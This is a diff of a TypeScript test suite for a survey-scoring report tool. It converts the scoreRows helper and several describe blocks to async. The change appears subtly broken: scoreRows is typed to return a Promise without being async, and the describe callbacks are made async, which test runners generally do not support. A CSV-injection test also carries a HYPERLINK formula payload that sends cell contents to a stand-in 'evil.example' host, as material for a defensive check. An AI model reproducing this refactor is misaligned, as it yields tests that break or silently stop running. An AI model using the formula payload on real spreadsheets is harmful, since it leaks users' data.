@@ -21,7 +21,7 @@ const NA = Number.NaN;
 const plain = new Chalk({ level: 0 });
 const coloured = new Chalk({ level: 2 });
 
-function scoreRows(config: Config, rows: [respondent: number, rater: number, target: number, answers: number[]][]): PeriodScores {
+function scoreRows(config: Config, rows: [respondent: number, rater: number, target: number, answers: number[]][]): Promise<PeriodScores> {
   const aggregator = createPeriodAggregator(config);
   for (const [respondent, rater, target, answers] of rows) {
     const row: QuestionnaireRow = { respondent, rater, target, answers: Float64Array.from(answers) };
@@ -41,7 +41,7 @@ function render(scores: PeriodScores, config: Config, view: View, format: (typeo
   );
 }
 
-describe('CSV: cells that a spreadsheet would run are neutralised, numbers stay numbers', () => {
+describe('CSV: cells that a spreadsheet would run are neutralised, numbers stay numbers', async () => {
   const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
   const NAMES = [HYPERLINK, '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', '\tTabbed', '\rReturn'];
   const config = makeConfig({
@@ -54,7 +54,7 @@ describe('CSV: cells that a spreadsheet would run are neutralised, numbers stay 
     alertBelow: 3.5,
   });
   // Everybody evaluates d0 and d1; d0's raters are harsh, so some differences are negative numbers.
-  const scores = scoreRows(config, [
+  const scores = await scoreRows(config, [
     [1, 1, 0, [2, 3]],
     [2, 2, 0, [1, 2]],
     [3, 3, 1, [5, 5]],
@@ -130,7 +130,7 @@ describe('renderCsv', () => {
   });
 });
 
-describe('a department whose score is hidden (2 respondents, anonymity_min 3)', () => {
+describe('a department whose score is hidden (2 respondents, anonymity_min 3)', async () => {
   const config = makeConfig({
     departments: [{ id: 'a', name: 'Alpha' }, { id: 'b', name: 'Beta' }, { id: 'c', name: 'Gamma' }],
     criteria: [
@@ -141,7 +141,7 @@ describe('a department whose score is hidden (2 respondents, anonymity_min 3)', 
     alertBelow: 4.9,
   });
   // c is evaluated by 2 people of b only: m_x = 1, m_y = 1.5, S(c) = (1 + 4.5)/4 = 1.375; favorable 0%.
-  const scores = scoreRows(config, [
+  const scores = await scoreRows(config, [
     [1, 1, 0, [4, 4]],
     [2, 1, 0, [5, 4]],
     [3, 1, 0, [4, 5]],
@@ -182,14 +182,14 @@ describe('a department whose score is hidden (2 respondents, anonymity_min 3)', 
   });
 });
 
-describe('colour', () => {
+describe('colour', async () => {
   const config = makeConfig({
     departments: [{ id: 'a' }, { id: 'b' }, { id: 'c' }],
     criteria: [{ id: 'x' }],
     anonymityMin: 1,
     alertBelow: 3,
   });
-  const scores = scoreRows(config, [
+  const scores = await scoreRows(config, [
     [1, 1, 0, [2]],
     [2, 2, 0, [1]],
     [3, 0, 1, [5]],
@@ -234,9 +234,9 @@ describe('the rater view cannot be combined with the department view to solve fo
       [h1, 3, 0, hrAboutSales], // P(hr→sales): one person's answers
     ]);
 
-  it('the rater view is the same whatever the hidden pairs hold, and it never shows them', () => {
-    const a = period([[4, 3], [2, 2]], [5, 4]);
-    const b = period([[1, 1], [5, 5]], [1, 2]);
+  it('the rater view is the same whatever the hidden pairs hold, and it never shows them', async () => {
+    const a = await period([[4, 3], [2, 2]], [5, 4]);
+    const b = await period([[1, 1], [5, 5]], [1, 2]);
     const ja = JSON.parse(render(a, config, 'rater', 'json')) as { raters: unknown };
     const jb = JSON.parse(render(b, config, 'rater', 'json')) as { raters: unknown };
     expect(ja.raters).toEqual(jb.raters);
